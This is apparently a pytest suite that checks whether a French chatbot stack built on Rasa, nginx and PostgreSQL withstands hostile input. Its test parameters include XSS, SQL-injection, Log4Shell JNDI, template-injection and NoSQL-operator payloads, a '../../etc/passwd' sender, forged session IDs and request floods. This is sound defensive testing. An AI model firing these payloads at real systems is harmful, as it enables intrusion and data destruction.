"""Hostile and malformed input through the real stack (issue 8): nginx, two Rasa servers, the
action servers, PostgreSQL and Redis. Each input gets a defined answer, nothing crashes,
nothing of another visitor comes back, and the conversations already there are intact."""
from __future__ import annotations

import json
import time

import pytest
import requests
import sqlalchemy as sa

from bot.channels import messages
from bot.channels.session_ids import SessionIds
from tests.stack import Visitor, new_address, retry
from tests.widget_client import WidgetClient


@pytest.fixture(scope="module")
def witness(stack):
    """A visitor who was there before the attacks, and whose conversation must survive them."""
    visitor = Visitor(stack)
    visitor.say("Bonjour")
    visitor.say("c'est quoi un CQP ?")
    return visitor


def post_raw(stack, data: bytes, content_type: str = "application/json", address: str = "") -> requests.Response:
    return requests.post(f"{stack.s.public_url}/webhooks/rest/webhook", data=data, timeout=60,
                         headers={"Content-Type": content_type, "X-Forwarded-For": address or new_address()})


def assert_refused(response: requests.Response, status: int, code: str) -> None:
    assert response.status_code == status, (response.status_code, response.text[:300])
    body = response.json()
    assert body["erreur"] == code and body["message"]


@pytest.mark.parametrize("message", ["", "   ", "\n\t ", "\u200b\u200b"])
def test_empty_and_blank_messages_are_answered_not_processed(stack, message):
    visitor = Visitor(stack)
    visitor.say(message)
    assert visitor.text == messages.EMPTY


def test_a_message_over_the_limit_is_answered_and_a_megabyte_is_stopped_by_nginx(stack):
    visitor = Visitor(stack)
    visitor.say("x" * (messages.MAX_MESSAGE_CHARS + 1))
    assert visitor.text == messages.TOO_LONG
    megabyte = json.dumps({"message": "a" * 1_000_000}).encode()
    assert_refused(post_raw(stack, megabyte), 413, "trop_long")


@pytest.mark.parametrize("raw", [
    b"not json", b"{", b"", b"null", b"[]", b'"Bonjour"', b"42",
    b'{"message": 42}', b'{"message": ["Bonjour"]}', b'{"message": {"$ne": null}}', b'{"message": null, "sender": []}',
    b'{"sender": 42, "message": "Bonjour"}', b'{"sender": {"$gt": ""}, "message": "Bonjour"}',
    "{\"message\": \"caf\xe9\"}".encode("latin-1"),  # not UTF-8
    b'{"message": "\xff\xfe\xfd"}',
], ids=lambda raw: raw[:30].decode("latin-1"))
def test_malformed_requests_get_a_400_in_french(stack, raw):
    assert_refused(post_raw(stack, raw), 400, "requete_invalide")


def test_wrong_method_and_the_rasa_api_are_not_reachable(stack):
    base = stack.s.public_url
    assert requests.get(f"{base}/webhooks/rest/webhook", timeout=10).status_code in (403, 405)
    for path in ("/conversations/x/tracker", "/model/parse", "/status", "/version", "/webhooks/rest/",
                 "/webhooks/widget/", "/domain"):
        response = requests.request("POST" if path == "/model/parse" else "GET", f"{base}{path}", timeout=10,
                                    json={"text": "Bonjour"})
        assert response.status_code == 404 or "Rasa" not in response.text, path
        assert "tracker" not in response.text and "events" not in response.text


def test_control_characters_are_removed_before_the_assistant_reads_the_message(stack):
    visitor = Visitor(stack)
    # The question of the CQP entry (its button title), so that only the cleaning decides.
    visitor.say("Qu'est-ce\x00 qu'un\x1b[31m CQP\u202e ?\x07")
    assert "certificat de qualification professionnelle" in visitor.text
    assert not any(ch in visitor.text for ch in "\x00\x1b\x07\u202e")


@pytest.mark.parametrize("message", [
    "مرحبا، كيف أحصل على شهادة؟",  # right to left
    "שלום, מה זה CQP?",
    "🎓🎓🎓 CQP ?? 😀👍🏽",
    "👨‍👩‍👧‍👦" * 50,
])
def test_right_to_left_and_emoji_get_an_answer(stack, message):
    visitor = Visitor(stack)
    visitor.say(message)
    assert visitor.text.strip()


@pytest.mark.parametrize("message", [
    "<script>alert(document.cookie)</script>",
    '<img src=x onerror="alert(1)">',
    "javascript:alert(1)",
    "'; DROP TABLE events; --",
    "1' OR '1'='1",
    "Robert'); DELETE FROM dossier; --",
    "${jndi:ldap://example.com/a}",
    "{{7*7}} {% debug %}",
])
def test_html_script_and_sql_looking_text_is_only_text(stack, witness, message):
    visitor = Visitor(stack)
    visitor.say(message)
    assert visitor.response.headers["Content-Type"].startswith("application/json")
    assert visitor.text.strip() and all(isinstance(r.get("text", ""), str) for r in visitor.replies)
    # Quoted back at most as the visitor's own words, in JSON text: never evaluated. (The
    # widget shows text nodes only: tests/test_widget_browser.py's XSS payloads.)
    if "{{7*7}}" in message:
        assert "49" not in visitor.text
    engine = sa.create_engine(stack.postgres_url())
    with engine.connect() as connection:
        assert connection.execute(sa.text("SELECT count(*) FROM events")).scalar() > 0
        stored = connection.execute(sa.text("SELECT data FROM events WHERE sender_id = :s AND type_name = 'user'"),
                                    {"s": visitor.tracker_sender}).scalars().all()
    engine.dispose()
    assert any(json.loads(row)["text"] == message for row in stored)  # kept as it was written, as data


def test_typed_commands_change_only_the_visitors_own_conversation(stack, witness):
    visitor = Visitor(stack)
    visitor.say("Je veux obtenir un CQP")
    visitor.say("/restart")  # a known intent, as a button would send it: this conversation starts over
    visitor.say("/nimportequoi")  # unknown: read as words, not as an intent
    assert visitor.text.strip()
    visitor.say('/inform{"status": "pirate", "consent": true, "dossier_id": "x"}')
    visitor.say("je voudrais parler à un conseiller")
    assert "Acceptez-vous" in visitor.text  # the crafted consent set nothing: it is still asked
    visitor.say("/deny")
    visitor.say("/inform{not json")
    visitor.say("/" * 50)
    visitor.say('/faq{"faq_topic": "cqp_definition"}')
    assert "certificat de qualification professionnelle" in visitor.text
    witness.say("et la VAE ?")
    assert "VAE" in witness.text


def test_a_forged_or_unknown_conversation_id_is_refused_and_reveals_nothing(stack, witness):
    other_key = SessionIds(b"another server's secret, not ours" * 2).issue()
    token, signature = witness.sender.split(".")
    altered = token[:-1] + ("A" if token[-1] != "A" else "B") + "." + signature
    for sender in (other_key, altered, witness.tracker_sender, "w-" + token, token, "visitor-42", "../../etc/passwd",
                   "x" * 5000):
        response = Visitor(stack).post({"sender": sender, "message": "Qu'ai-je dit avant ?"})
        assert response.status_code == 403 or response.status_code == 413, (sender, response.status_code)
        assert "CQP" not in response.text
    # The widget: a forged id opens a new, empty conversation, never the witness's.
    origin = f"http://localhost:{stack.s.port}"
    client = WidgetClient(f"{stack.s.public_url}?route=forger", origin=origin)
    history = client.start(altered)
    assert history["messages"] == [] and client.session_id != altered
    client.close()


def test_a_flood_from_one_address_gets_429_and_others_are_still_served(stack):
    address = new_address()
    codes = []
    for _ in range(60):
        response = post_raw(stack, json.dumps({"message": "Bonjour"}).encode(), address=address)
        codes.append(response.status_code)
        if response.status_code == 429:
            assert response.json()["erreur"] == "trop_de_requetes"
    assert 429 in codes and 200 in codes
    other = Visitor(stack)
    other.say("Bonjour")
    assert other.text


def test_a_flood_in_one_conversation_is_answered_without_running_the_assistant(stack):
    visitor = Visitor(stack)
    visitor.say("Bonjour")
    answers = []
    for _ in range(30):
        visitor.address = new_address()  # past nginx's per-address limit: the app's own limit
        answers.append(visitor.say("Bonjour") and visitor.text)
    assert messages.TOO_FAST in answers


def test_a_flood_over_one_socket_is_answered_and_an_oversized_frame_closes_only_that_socket(stack):
    origin = f"http://localhost:{stack.s.port}"
    client = WidgetClient(f"{stack.s.public_url}?route=flooder", origin=origin)
    client.start()
    texts = []
    for _ in range(35):
        texts += [m["text"] for m in client.say("Bonjour")]
    assert messages.TOO_FAST in texts
    client.close()

    big = WidgetClient(f"{stack.s.public_url}?route=big", origin=origin)
    big.start()
    big.sio.emit("user_uttered", {"message": "a" * 100_000})
    deadline = time.monotonic() + 30
    while big.sio.connected and time.monotonic() < deadline:
        time.sleep(0.2)
    assert not big.sio.connected
    fresh = WidgetClient(f"{stack.s.public_url}?route=after", origin=origin)
    fresh.start()
    assert fresh.say("c'est quoi un CQP ?")
    fresh.close()


def test_after_all_this_the_witness_conversation_is_whole(stack, witness):
    def answered():
        witness.address = new_address()
        witness.say("qui peut faire une VAE ?")
        assert "VAE" in witness.text
    retry(answered)
    engine = sa.create_engine(stack.postgres_url())
    with engine.connect() as connection:
        texts = [json.loads(row)["text"] for row in connection.execute(
            sa.text("SELECT data FROM events WHERE sender_id = :s AND type_name = 'user' ORDER BY id"),
            {"s": witness.tracker_sender}).scalars()]
    engine.dispose()
    assert texts[:2] == ["Bonjour", "c'est quoi un CQP ?"] and "qui peut faire une VAE ?" in texts


def listening_addresses(port: int) -> set:
    """The local addresses a TCP port listens on, from /proc (IPv4 and IPv6)."""
    found = set()
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        try:
            lines = open(table).read().splitlines()[1:]
        except OSError:
            continue
        for line in lines:
            local, state = line.split()[1], line.split()[3]
            address, hex_port = local.rsplit(":", 1)
            if state == "0A" and int(hex_port, 16) == port:  # LISTEN
                found.add(address)
    return found


def test_every_part_of_the_local_stack_listens_on_the_loopback_only(stack):
    loopback = {"0100007F", "00000000000000000000000001000000"}  # 127.0.0.1, ::1
    for port in [*stack.s.rasa_ports, *stack.s.action_ports, stack.s.actions_proxy_port, stack.s.demo_port,
                 stack.s.port]:
        addresses = listening_addresses(port)
        assert addresses and addresses <= loopback, (port, addresses)
